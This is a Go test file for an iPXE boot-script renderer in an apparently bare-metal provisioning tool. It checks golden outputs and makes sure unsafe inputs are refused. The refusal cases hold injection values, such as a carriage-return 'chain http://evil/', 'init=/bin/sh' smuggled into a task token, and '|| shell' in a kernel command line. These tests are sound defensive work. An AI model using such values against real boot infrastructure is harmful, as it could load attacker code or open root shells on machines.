package httpboot

import (
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/metalfleet/metalfleet/proto"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

const (
	testBase   = "http://10.99.0.1:8080"
	testNodeID = "6f1c2b9e-3d4a-4b8e-9a7c-2e5f1d0c8b7a"
	kernelSHA  = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"
	initrdSHA  = "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"
)

func testKernel() *proto.Artifact {
	return &proto.Artifact{Name: "vmlinuz", URL: "http://images/vmlinuz", SHA256: kernelSHA}
}

func testInitrd() *proto.Artifact {
	return &proto.Artifact{Name: "initrd", URL: "http://images/initrd", SHA256: initrdSHA}
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from the golden file:\n--- got\n%s--- want\n%s", name, got, want)
	}
}

func TestRenderScript(t *testing.T) {
	tests := []struct {
		name string // testdata/<name>.ipxe
		p    ScriptParams
	}{
		{"discovery-unknown-mac", ScriptParams{
			MAC: "AA-BB-CC-00-00-01", BaseURL: testBase,
			Boot: proto.BootConfig{Kind: proto.BootDiscovery, Kernel: testKernel(), Initrd: testInitrd(),
				Cmdline: "console=ttyS0,115200 panic=-1"},
		}},
		{"ramdisk-task-token", ScriptParams{
			MAC: "aa:bb:cc:00:00:02", NodeUUID: testNodeID, BaseURL: testBase + "/",
			Boot: proto.BootConfig{Kind: proto.BootRamdisk, Kernel: testKernel(), Initrd: testInitrd(),
				Cmdline: "console=ttyS0,115200 ", Task: "burnin", TaskToken: "tt-3q9ZkVJ1xQ"},
		}},
		{"ramdisk-no-cmdline", ScriptParams{
			MAC: "aabb.cc00.0003", NodeUUID: testNodeID, BaseURL: testBase,
			Boot: proto.BootConfig{Kind: proto.BootRamdisk, Kernel: testKernel(), Initrd: testInitrd(), Task: "inspect"},
		}},
		{"local-disk", ScriptParams{
			MAC: "aa:bb:cc:00:00:04", NodeUUID: testNodeID, BaseURL: testBase,
			Boot: proto.BootConfig{Kind: proto.BootLocalDisk},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := RenderScript(tt.p)
			if err != nil {
				t.Fatalf("RenderScript(%+v) = %v", tt.p, err)
			}
			golden(t, tt.name+".ipxe", got)
		})
	}
}

// TestRenderScriptAgreesWithCheckCmdline: a command line the coordinator's
// FSM accepts (proto.CheckCmdline) renders, and one it refuses does not
// (a C1 character was accepted by the FSM and refused here: every
// unknown MAC got a 500).
func TestRenderScriptAgreesWithCheckCmdline(t *testing.T) {
	for _, c := range []string{
		"", "console=ttyS0,115200n8 metalfleet.poweroff=false", "quiet \u0085shell",
		"x=${net0/ip}", `x="a b"`, "a || shell", "a ; b", "caf\u00e9", "a\x9bb", "a\tb",
		strings.Repeat("y", proto.MaxCmdline), strings.Repeat("y", proto.MaxCmdline+1),
	} {
		c, _ = strconv.Unquote(`"` + c + `"`)
		p := ScriptParams{MAC: "aa:bb:cc:00:00:06", BaseURL: testBase,
			Boot: proto.BootConfig{Kind: proto.BootDiscovery, Kernel: testKernel(), Initrd: testInitrd(), Cmdline: c, Task: "discovery"}}
		_, rerr := RenderScript(p)
		cerr := proto.CheckCmdline("discovery_cmdline", c)
		if (rerr == nil) != (cerr == nil) {
			t.Errorf("cmdline %q: RenderScript error %v, CheckCmdline error %v: want both nil or both set", c, rerr, cerr)
		}
	}
}

// TestRenderScriptRefuses: each refusal's message is a golden file, so a
// change of wording is seen in review.
func TestRenderScriptRefuses(t *testing.T) {
	ramdisk := func(f func(*ScriptParams)) ScriptParams {
		p := ScriptParams{MAC: "aa:bb:cc:00:00:05", NodeUUID: testNodeID, BaseURL: testBase,
			Boot: proto.BootConfig{Kind: proto.BootRamdisk, Kernel: testKernel(), Initrd: testInitrd(),
				Cmdline: "console=ttyS0", Task: "burnin", TaskToken: "tok"}}
		f(&p)
		return p
	}
	tests := []struct {
		name string // testdata/<name>.err
		p    ScriptParams
	}{
		{"refuse-no-kernel", ramdisk(func(p *ScriptParams) { p.Boot.Kernel = nil })},
		{"refuse-no-initrd", ramdisk(func(p *ScriptParams) { p.Boot.Initrd = nil })},
		{"refuse-discovery-no-kernel", ramdisk(func(p *ScriptParams) { p.Boot.Kind = proto.BootDiscovery; p.Boot.Kernel = nil })},
		{"refuse-bad-sha", ramdisk(func(p *ScriptParams) { p.Boot.Initrd.SHA256 = "abc" })},
		{"refuse-cmdline-newline", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = "quiet\nshell" })},
		{"refuse-cmdline-cr", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = "quiet\rchain http://evil/" })},
		{"refuse-cmdline-escape", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = "quiet \x1b[2J" })},
		{"refuse-cmdline-c1", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = "quiet \u0085shell" })},
		{"refuse-cmdline-utf8", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = "quiet \xff" })},
		{"refuse-cmdline-too-long", ramdisk(func(p *ScriptParams) { p.Boot.Cmdline = strings.Repeat("x", 1900) })},
		{"refuse-token-newline", ramdisk(func(p *ScriptParams) { p.Boot.TaskToken = "s3cr3t\nboot" })},
		{"refuse-token-space", ramdisk(func(p *ScriptParams) { p.Boot.TaskToken = "s3cr3t init=/bin/sh" })},
		{"refuse-task-space", ramdisk(func(p *ScriptParams) { p.Boot.Task = "burn in" })},
		{"refuse-bad-mac", ramdisk(func(p *ScriptParams) { p.MAC = "not-a-mac" })},
		{"refuse-bad-uuid", ramdisk(func(p *ScriptParams) { p.NodeUUID = "x y" })},
		{"refuse-bad-base", ramdisk(func(p *ScriptParams) { p.BaseURL = "10.99.0.1:8080" })},
		{"refuse-base-newline", ramdisk(func(p *ScriptParams) { p.BaseURL = testBase + "\nshell" })},
		{"refuse-no-kind", ramdisk(func(p *ScriptParams) { p.Boot.Kind = "" })},
		{"refuse-unknown-kind", ramdisk(func(p *ScriptParams) { p.Boot.Kind = "sanboot" })},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := RenderScript(tt.p)
			if err == nil {
				t.Fatalf("RenderScript(%+v) = %q, want an error", tt.p, got)
			}
			if got != "" {
				t.Errorf("RenderScript(%+v) = %q with an error, want no script", tt.p, got)
			}
			if strings.Contains(err.Error(), "s3cr3t") {
				t.Errorf("error %q shows the token", err)
			}
			golden(t, tt.name+".err", err.Error()+"\n")
		})
	}
}
